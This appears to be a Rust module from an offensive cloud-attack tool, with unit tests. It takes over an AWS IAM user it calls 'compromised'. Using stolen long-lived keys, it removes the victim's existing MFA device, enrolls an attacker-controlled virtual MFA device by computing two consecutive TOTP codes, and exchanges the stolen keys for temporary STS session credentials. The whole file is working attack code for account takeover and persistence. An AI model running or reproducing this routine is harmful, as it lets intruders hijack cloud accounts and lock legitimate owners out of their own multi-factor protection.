use std::time::{Duration, SystemTime, UNIX_EPOCH};

use aws_config::BehaviorVersion;
use aws_credential_types::Credentials;
use aws_sdk_iam::types::AssignmentStatusType;
use aws_types::region::Region;
use hmac::{Hmac, Mac};
use sha1::Sha1;
use tracing::{info, warn};

use crate::error::{classify, AttackError, AttackResult};
use crate::session::CloudSession;

type HmacSha1 = Hmac<Sha1>;

const TOTP_STEP_SECS: u64 = 30;
const TOTP_DIGITS: u32 = 6;
const SESSION_DURATION_SECS: i32 = 3600;

/// Decode the base32 seed text IAM hands back for a virtual device.
pub fn decode_base32_seed(text: &str) -> AttackResult<Vec<u8>> {
    let cleaned: String = text.trim().chars().filter(|c| !c.is_whitespace()).collect();
    base32::decode(base32::Alphabet::Rfc4648 { padding: false }, &cleaned)
        .ok_or_else(|| AttackError::Mfa("seed is not valid base32".into()))
}

fn hotp(secret: &[u8], counter: u64) -> AttackResult<u32> {
    let mut mac = HmacSha1::new_from_slice(secret)
        .map_err(|_| AttackError::Mfa("seed cannot be used as an HMAC key".into()))?;
    mac.update(&counter.to_be_bytes());
    let digest = mac.finalize().into_bytes();
    let offset = (digest[19] & 0x0f) as usize;
    let bin = u32::from_be_bytes([
        digest[offset],
        digest[offset + 1],
        digest[offset + 2],
        digest[offset + 3],
    ]) & 0x7fff_ffff;
    Ok(bin % 10u32.pow(TOTP_DIGITS))
}

fn unix_secs(at: SystemTime) -> AttackResult<u64> {
    Ok(at
        .duration_since(UNIX_EPOCH)
        .map_err(|_| AttackError::Mfa("system clock is before the unix epoch".into()))?
        .as_secs())
}

/// RFC 6238 code for the 30-second window containing `at`.
pub fn totp_code(secret: &[u8], at: SystemTime) -> AttackResult<String> {
    let window = unix_secs(at)? / TOTP_STEP_SECS;
    Ok(format!("{:06}", hotp(secret, window)?))
}

/// Codes for the current window and the next one. Enrollment wants two
/// consecutive codes; deriving the second one mathematically skips the
/// 30-second wait a shell-based flow needs.
pub fn consecutive_codes(secret: &[u8], at: SystemTime) -> AttackResult<(String, String)> {
    let window = unix_secs(at)? / TOTP_STEP_SECS;
    Ok((
        format!("{:06}", hotp(secret, window)?),
        format!("{:06}", hotp(secret, window + 1)?),
    ))
}

/// Temporary credentials from the MFA-gated session-token exchange.
#[derive(Debug, Clone)]
pub struct MfaSession {
    pub access_key_id: String,
    pub secret_access_key: String,
    pub session_token: String,
}

/// Enrolls a virtual MFA device against the compromised user and trades it
/// for temporary session credentials.
pub struct MfaSetup {
    iam: aws_sdk_iam::Client,
    user: String,
    device_name: String,
    registration_delay: Duration,
}

impl MfaSetup {
    pub fn new(
        session: &CloudSession,
        user: impl Into<String>,
        device_name: impl Into<String>,
        registration_delay: Duration,
    ) -> Self {
        Self {
            iam: aws_sdk_iam::Client::new(session.config()),
            user: user.into(),
            device_name: device_name.into(),
            registration_delay,
        }
    }

    /// Serial of the device currently linked to the user, if any.
    pub async fn existing_device(&self) -> AttackResult<Option<String>> {
        let resp = self
            .iam
            .list_mfa_devices()
            .user_name(&self.user)
            .send()
            .await
            .map_err(|e| classify("list mfa devices", e))?;
        Ok(resp
            .mfa_devices()
            .first()
            .map(|d| d.serial_number().to_string()))
    }

    /// Unassigned leftovers with our device name, from aborted earlier runs.
    pub async fn purge_stale_devices(&self) -> AttackResult<()> {
        let resp = self
            .iam
            .list_virtual_mfa_devices()
            .assignment_status(AssignmentStatusType::Unassigned)
            .send()
            .await
            .map_err(|e| classify("list virtual mfa devices", e))?;
        let suffix = format!("mfa/{}", self.device_name);
        for device in resp.virtual_mfa_devices() {
            let serial = device.serial_number();
            if !serial.ends_with(&suffix) {
                continue;
            }
            info!(serial, "deleting stale MFA device");
            if let Err(e) = self
                .iam
                .delete_virtual_mfa_device()
                .serial_number(serial)
                .send()
                .await
            {
                warn!(serial, error = %classify("delete mfa device", e), "stale device not deleted");
            }
        }
        Ok(())
    }

    async fn detach_device(&self, serial: &str) -> AttackResult<()> {
        self.iam
            .deactivate_mfa_device()
            .user_name(&self.user)
            .serial_number(serial)
            .send()
            .await
            .map_err(|e| classify("deactivate mfa device", e))?;
        self.iam
            .delete_virtual_mfa_device()
            .serial_number(serial)
            .send()
            .await
            .map_err(|e| classify("delete mfa device", e))?;
        Ok(())
    }

    /// Create the virtual device and return its serial plus decoded seed.
    pub async fn create_device(&self) -> AttackResult<(String, Vec<u8>)> {
        let resp = self
            .iam
            .create_virtual_mfa_device()
            .virtual_mfa_device_name(&self.device_name)
            .send()
            .await
            .map_err(|e| classify("create mfa device", e))?;
        let device = resp
            .virtual_mfa_device()
            .ok_or_else(|| AttackError::Mfa("no device in create response".into()))?;
        let serial = device.serial_number().to_string();
        let seed = device
            .base32_string_seed()
            .ok_or_else(|| AttackError::Mfa("no base32 seed in create response".into()))?;
        let text = std::str::from_utf8(seed.as_ref())
            .map_err(|_| AttackError::Mfa("seed blob is not utf-8".into()))?;
        let secret = decode_base32_seed(text)?;
        info!(serial = %serial, "virtual MFA device created");
        Ok((serial, secret))
    }

    pub async fn enable_device(&self, serial: &str, secret: &[u8]) -> AttackResult<()> {
        let (code1, code2) = consecutive_codes(secret, SystemTime::now())?;
        self.iam
            .enable_mfa_device()
            .user_name(&self.user)
            .serial_number(serial)
            .authentication_code1(code1)
            .authentication_code2(code2)
            .send()
            .await
            .map_err(|e| classify("enable mfa device", e))?;
        info!(user = %self.user, serial, "MFA device enabled");
        Ok(())
    }

    pub async fn verify_linked(&self, serial: &str) -> AttackResult<()> {
        let resp = self
            .iam
            .list_mfa_devices()
            .user_name(&self.user)
            .send()
            .await
            .map_err(|e| classify("list mfa devices", e))?;
        if resp.mfa_devices().iter().any(|d| d.serial_number() == serial) {
            info!(user = %self.user, serial, "MFA device linked");
            Ok(())
        } else {
            Err(AttackError::Mfa(format!(
                "device {serial} did not link to {}",
                self.user
            )))
        }
    }

    /// Exchange the user's long-lived key plus a fresh TOTP code for
    /// temporary session credentials.
    pub async fn session_token(
        &self,
        region: &str,
        serial: &str,
        secret: &[u8],
        access_key: &str,
        secret_key: &str,
    ) -> AttackResult<MfaSession> {
        let code = totp_code(secret, SystemTime::now())?;
        let creds = Credentials::new(
            access_key.to_string(),
            secret_key.to_string(),
            None,
            None,
            "devops-long-lived",
        );
        let conf = aws_config::defaults(BehaviorVersion::latest())
            .region(Region::new(region.to_string()))
            .credentials_provider(creds)
            .load()
            .await;
        let sts = aws_sdk_sts::Client::new(&conf);
        let resp = sts
            .get_session_token()
            .serial_number(serial)
            .token_code(code)
            .duration_seconds(SESSION_DURATION_SECS)
            .send()
            .await
            .map_err(|e| classify("get session token", e))?;
        let c = resp
            .credentials()
            .ok_or_else(|| AttackError::Mfa("no credentials in STS response".into()))?;
        info!(user = %self.user, "MFA session token retrieved");
        Ok(MfaSession {
            access_key_id: c.access_key_id().to_string(),
            secret_access_key: c.secret_access_key().to_string(),
            session_token: c.session_token().to_string(),
        })
    }

    /// Full flow: replace any linked device, purge leftovers, create and
    /// enable a fresh device, then log in with it.
    pub async fn enroll_and_login(
        &self,
        region: &str,
        access_key: &str,
        secret_key: &str,
    ) -> AttackResult<MfaSession> {
        if let Some(serial) = self.existing_device().await? {
            info!(serial = %serial, user = %self.user, "replacing existing MFA device");
            self.detach_device(&serial).await?;
        }
        self.purge_stale_devices().await?;
        let (serial, secret) = self.create_device().await?;
        if !self.registration_delay.is_zero() {
            info!(secs = self.registration_delay.as_secs(), "waiting for device registration");
            tokio::time::sleep(self.registration_delay).await;
        }
        self.enable_device(&serial, &secret).await?;
        self.verify_linked(&serial).await?;
        self.session_token(region, &serial, &secret, access_key, secret_key)
            .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &[u8] = b"12345678901234567890";

    fn at(secs: u64) -> SystemTime {
        UNIX_EPOCH + Duration::from_secs(secs)
    }

    #[test]
    fn hotp_matches_rfc4226_vectors() {
        let expected = [
            755224, 287082, 359152, 969429, 338314, 254676, 287922, 162583, 399871, 520489,
        ];
        for (counter, want) in expected.iter().enumerate() {
            assert_eq!(hotp(SECRET, counter as u64).unwrap(), *want);
        }
    }

    #[test]
    fn totp_matches_rfc6238_times() {
        assert_eq!(totp_code(SECRET, at(59)).unwrap(), "287082");
        assert_eq!(totp_code(SECRET, at(1111111109)).unwrap(), "081804");
        assert_eq!(totp_code(SECRET, at(1111111111)).unwrap(), "050471");
        assert_eq!(totp_code(SECRET, at(1234567890)).unwrap(), "005924");
    }

    #[test]
    fn codes_are_zero_padded_to_six_digits() {
        let code = totp_code(SECRET, at(1234567890)).unwrap();
        assert_eq!(code.len(), 6);
        assert!(code.starts_with("00"));
    }

    #[test]
    fn consecutive_codes_cover_adjacent_windows() {
        // t=59 sits in window 1, so expect HOTP(1) and HOTP(2)
        let (c1, c2) = consecutive_codes(SECRET, at(59)).unwrap();
        assert_eq!(c1, "287082");
        assert_eq!(c2, "359152");
    }

    #[test]
    fn base32_seed_round_trip() {
        let decoded = decode_base32_seed("GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ").unwrap();
        assert_eq!(decoded, SECRET);
        // stray whitespace is tolerated
        let padded = decode_base32_seed("  GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ \n").unwrap();
        assert_eq!(padded, SECRET);
        assert!(decode_base32_seed("not base32 !!!").is_err());
    }
}
